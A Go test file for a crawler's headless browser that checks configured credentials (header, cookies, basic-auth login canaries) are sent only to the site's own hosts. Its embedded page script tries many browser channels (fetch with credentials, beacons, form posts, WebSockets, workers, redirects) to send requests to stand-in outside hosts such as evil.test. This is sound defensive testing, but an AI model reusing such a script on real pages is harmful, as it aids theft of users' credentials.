package browser_test

import (
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/websocket"

	"trackscan/crawler"
	"trackscan/crawler/browser"
)

// canaries are values that nobody but the site may see.
const (
	headerCanary = "canary-in-a-header"
	cookieCanary = "canary-in-a-cookie"
	loginCanary  = "canary-in-a-login"
)

// ear is a server of many hosts that writes down what each of them was told.
type ear struct {
	mu   sync.Mutex
	told map[string][]string // by host: path, and the whole request as text
}

func (e *ear) hear(r *http.Request) {
	e.mu.Lock()
	defer e.mu.Unlock()
	user, password, _ := r.BasicAuth()
	e.told[r.Host] = append(e.told[r.Host], fmt.Sprint(r.Method, " ", r.URL, " ", r.Header, " ", user, " ", password))
}

// ServeHTTP implements http.Handler. Hosts under shop.test are the site; of these inner.shop.test asks for a login.
func (e *ear) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	e.hear(r)
	w.Header().Set("Access-Control-Allow-Origin", "*")
	if _, _, in := r.BasicAuth(); !in && (r.Host == "inner.shop.test" || strings.HasPrefix(r.URL.Path, "/asks")) {
		w.Header().Set("WWW-Authenticate", `Basic realm="canary"`)
		w.WriteHeader(http.StatusUnauthorized)
		return
	}
	switch r.URL.Path {
	case "/to":
		http.Redirect(w, r, r.URL.Query().Get("at"), http.StatusTemporaryRedirect)
	case "/open":
		page(w, leakSource)
	case "/frame":
		page(w, `fetch('https://www.shop.test/from-a-frame', { mode: 'no-cors' })`)
	case "/sw.js", "/worker.js":
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, `
			self.onfetch = (e) => {}; fetch('https://own.shop.test/from-worker', { mode: 'no-cors' });
			fetch('https://third.test/from-worker', { mode: 'no-cors' }); fetch('/to?at=https://third.test/redirected-from-worker', { mode: 'no-cors' })`)
	case "/socket":
		websocket.Handler(func(c *websocket.Conn) { _ = c.Close() }).ServeHTTP(w, r)
	default:
		page(w, "")
	}
}

// leakSource tries in every way to have the site's credentials sent to others.
const leakSource = `
	document.title = 'open';
	const add = (name, attrs) => document.body.append(Object.assign(document.createElement(name), attrs));
	for (const u of ['https://third.test/', 'https://evil.test/?.shop.test/', 'https://shop.test.evil.test/', 'https://notshop.test/', '/to?at=https://third.test/redirected']) {
		new Image().src = u; add('script', { src: u }); add('link', { rel: 'stylesheet', href: u }); add('iframe', { src: u });
		fetch(u, { mode: 'no-cors' }).catch(() => {}); fetch(u, { headers: { 'x-own': '1' }, credentials: 'include' }).catch(() => {});
		navigator.sendBeacon(u, 'x'); new EventSource(u); add('video', { src: u });
		add('iframe', { name: 'f' + u }); const form = document.createElement('form');
		form.action = u; form.method = 'post'; form.target = 'f' + u; document.body.append(form); form.submit();
	}
	add('iframe', { src: 'https://third.test/frame' }); new WebSocket('wss://third.test/socket'); new WebSocket('wss://www.shop.test/socket');
	new Image().src = 'https://third.test/asks'; new Image().src = '/to?at=https://third.test/asks/redirected';
	fetch('https://own.shop.test/cors').then((r) => r.text()).then(() => fetch('/cors-ok'), () => {});
	new Image().src = 'https://inner.shop.test/login';
	new Worker('/worker.js'); navigator.serviceWorker?.register('/sw.js'); open('https://third.test/popup'); open('https://www.shop.test/popup')`

// TestCredentials gives a visitor headers, cookies and logins, and has a page try to send them elsewhere: the site's
// hosts get them, others nothing, and nothing of them is in the evidence.
func TestCredentials(t *testing.T) {
	e := &ear{told: map[string][]string{}}
	server := httptest.NewTLSServer(e)
	server.Config.ErrorLog = log.New(io.Discard, "", 0)
	defer server.Close()
	scope, err := crawler.NewScope("https://www.shop.test/", nil)
	require.NoError(t, err)
	b := startBrowserWith(t, browser.Options{
		Site: "https://www.shop.test/", Resolves: crawler.Resolves{sentTo(t, "*", server.URL)}, Insecure: true,
		Credentials: crawler.Credentials{
			Scope:   scope,
			Headers: []crawler.Header{{Name: "X-Key", Value: headerCanary}},
			Cookies: []crawler.GivenCookie{
				{Name: "all", Value: cookieCanary},
				{Name: "one", Value: cookieCanary + "-www", Domain: "www.shop.test", HostOnly: true},
				{Name: "theirs", Value: cookieCanary + "-third", Domain: "third.test"},
			},
			Logins: []crawler.Login{{User: "me", Password: loginCanary}},
		},
	})
	p, err := renderInTime(t, b, crawler.Visit{URL: "https://www.shop.test/open"})
	require.NoError(t, err)
	require.Equal(t, "open", p.Title)
	_, err = renderInTime(t, b, crawler.Visit{URL: "https://www.shop.test/to?at=" + url.QueryEscape("https://third.test/asks/home")})
	require.ErrorContains(t, err, "ERR_INVALID_AUTH_CREDENTIALS")
	policy, err := renderInTime(t, b, crawler.Visit{URL: "https://inner.shop.test/policy", Document: true})
	require.NoError(t, err)
	require.NotNil(t, policy.Document)
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, host := range []string{"third.test", "evil.test", "shop.test.evil.test", "notshop.test"} {
		require.NotEmpty(t, e.told[host], host)
		for _, text := range e.told[host] {
			require.NotContains(t, text, "canary", host)
		}
	}
	for host, want := range map[string][]string{
		"www.shop.test":   {headerCanary, "all=" + cookieCanary, "one=" + cookieCanary + "-www", "/cors-ok", "/from-a-frame", "/popup", "/sw.js", "/worker.js"},
		"own.shop.test":   {headerCanary, "all=" + cookieCanary, "/cors", "/from-worker"},
		"inner.shop.test": {headerCanary, "me " + loginCanary},
	} {
		all := strings.Join(e.told[host], "\n")
		for _, w := range want {
			require.Contains(t, all, w, host)
		}
		for _, text := range e.told[host] {
			if !strings.Contains(text, " /socket ") {
				require.Contains(t, text, headerCanary, host)
			}
		}
	}
	require.NotContains(t, strings.Join(e.told["own.shop.test"], "\n"), "one=")
	evidence := fmt.Sprintf("%+v %+v %s", p, policy, policy.Document.Bytes)
	require.NotContains(t, evidence, "canary-in")
	for _, name := range []string{"all", "one", "theirs"} {
		require.False(t, hasCookie(p, name), "the user's cookie %s is none of the site's", name)
	}
	require.True(t, hasCookie(p, "seen"))
}
